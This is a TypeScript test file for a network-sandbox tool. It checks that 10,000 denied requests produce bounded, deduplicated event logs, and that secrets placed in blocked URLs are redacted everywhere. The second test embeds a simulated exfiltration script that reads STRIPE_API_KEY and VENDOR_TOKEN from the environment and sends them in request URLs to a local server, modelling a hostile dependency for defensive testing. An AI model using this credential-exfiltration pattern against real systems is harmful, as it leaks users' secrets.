/**
 * Events under pressure and secrets in targets: a hostile loop of 10,000 denied requests produces a bounded
 * number of event lines (repeats are counted, the rate is capped) and the process stays responsive; a secret's
 * value placed in a denied URL never appears in stderr, the events file or the error the caller sees.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { runGuarded, startRecordingServer } from '../helpers.js';

describe('events', () => {
  let server: Awaited<ReturnType<typeof startRecordingServer>>;
  before(async () => {
    server = await startRecordingServer();
  });
  after(async () => {
    await server.close();
  });

  test('10,000 denied requests: bounded event lines, repeats counted, the process stays responsive', async () => {
    const script = `import http from 'node:http';
const base = process.argv[2];
let failed = 0;
const started = performance.now();
// Same target again and again (deduplicated), then thousands of distinct targets (rate-capped).
for (let i = 0; i < 5000; i++) {
  try { await fetch(base + '/same'); } catch (e) { if (e.code === 'ERR_PERIMETER_BLOCKED') failed++; }
}
for (let i = 0; i < 5000; i++) {
  const req = http.get(base + '/distinct/' + i);
  await new Promise((resolve) => req.on('error', (e) => { if (e.code === 'ERR_PERIMETER_BLOCKED') failed++; resolve(); }));
}
const loopMs = performance.now() - started;
// Still responsive: a timer fires on time and an allowed request works.
const lag = await new Promise((resolve) => { const t = performance.now(); setTimeout(() => resolve(performance.now() - t), 10); });
const allowed = await fetch(base.replace('/denied', '') + '/allowed').then((r) => r.status);
console.log(JSON.stringify({ failed, loopMs: Math.round(loopMs), lag: Math.round(lag), allowed, rss: process.memoryUsage().rss }));
`;
    const r = await runGuarded({
      policy: { network: { allow: [`http://127.0.0.1:${server.port}/allowed`] } },
      script: 'flood.mjs',
      files: { 'flood.mjs': script },
      args: [`${server.url}/denied`],
      timeoutMs: 60_000,
    });
    assert.equal(r.code, 0, r.stderr.slice(0, 2000));
    const summary = JSON.parse(r.stdout.trim());
    assert.equal(summary.failed, 10_000, 'every denied request failed the normal way');
    assert.equal(summary.allowed, 200);
    assert.ok(summary.lag < 500, `a 10 ms timer took ${summary.lag} ms`);
    assert.ok(!server.requests.some((q) => q.url.startsWith('/denied')), 'a denied request reached the server');

    const lines = r.events.length;
    assert.ok(lines < 1000, `${lines} event lines for 10,000 denials`);
    const stderrLines = r.stderr.split('\n').filter((l) => l.startsWith('{')).length;
    assert.ok(stderrLines < 1000, `${stderrLines} stderr lines`);
    const same = r.events.filter((e) => e.target === `GET ${server.url}/denied/same`);
    const counted = same.reduce((sum, e) => sum + (e.repeats ?? 1), 0);
    assert.equal(
      counted,
      5000,
      `every repeat of the same denial is counted (first line + repeats): ${JSON.stringify(same)}`,
    );
    assert.ok(same.length < 50, `${same.length} lines for one repeated target`);
    const suppressed = r.events.filter((e) => e.type === 'suppressed');
    assert.ok(suppressed.length > 0, 'distinct targets beyond the rate cap are summarised');
    const distinctLines = r.events.filter((e) => String(e.target).includes('/distinct/')).length;
    const suppressedCount = suppressed.reduce((sum, e) => sum + Number(/^(\d+)/.exec(e.target)?.[1] ?? 0), 0);
    assert.equal(distinctLines + suppressedCount, 5000, 'written + suppressed accounts for every distinct denial');
  });

  test("a secret's value in a denied URL never reaches stderr, the events file or the error", async () => {
    const secret = 'sk_test_51Hxx' + 'QpZr8mT3vWk9LdE2fGh';
    const vendorSecret = 'plain-looking-value-7f3a9c1e';
    const script = `import http from 'node:http';
const base = process.argv[2];
const key = process.env.STRIPE_API_KEY;
const vendor = process.env.VENDOR_TOKEN;
const messages = [];
for (const url of [base + '/collect?k=' + key, base + '/collect/' + key, base + '/c?data=' + encodeURIComponent(vendor), base + '/' + vendor]) {
  try { await fetch(url); } catch (e) { messages.push(e.message, e.cause?.message, e.cause?.target, e.cause?.hint); }
  await new Promise((resolve) => http.get(url).on('error', (e) => { messages.push(e.message, e.target, e.hint, String(e.stack)); resolve(); }));
}
console.log(JSON.stringify(messages));
`;
    const r = await runGuarded({
      // The function may read both (a dependency that reads them is the threat being modelled).
      policy: { network: { allow: [] }, env: { allow: ['STRIPE_API_KEY', 'VENDOR_TOKEN'] } },
      script: 'exfil.mjs',
      files: { 'exfil.mjs': script },
      args: [`${server.url}/x`],
      env: { STRIPE_API_KEY: secret, VENDOR_TOKEN: vendorSecret },
    });
    assert.equal(r.code, 0, r.stderr);
    const messages: string[] = JSON.parse(r.stdout.trim());
    assert.ok(messages.length >= 16);
    assert.ok(
      messages.some((m) => m?.includes('[REDACTED]')),
      `the errors still say what was blocked, minus the secret: ${messages.join('\n')}`,
    );
    const eventsFile = readFileSync(join(r.dir, 'events.jsonl'), 'utf8');
    assert.ok(r.events.length >= 4);
    for (const [where, text] of [
      ['stderr', r.stderr],
      ['events file', eventsFile],
      ['error messages', messages.join('\n')],
    ] as const) {
      assert.ok(!text.includes(secret), `the Stripe key leaked into ${where}`);
      assert.ok(!text.includes(vendorSecret), `VENDOR_TOKEN leaked into ${where}`);
      assert.ok(!text.includes(encodeURIComponent(vendorSecret)), `VENDOR_TOKEN (encoded) leaked into ${where}`);
    }
    assert.ok(!server.requests.some((q) => q.url.startsWith('/x/')), 'a denied request reached the server');
  });
});
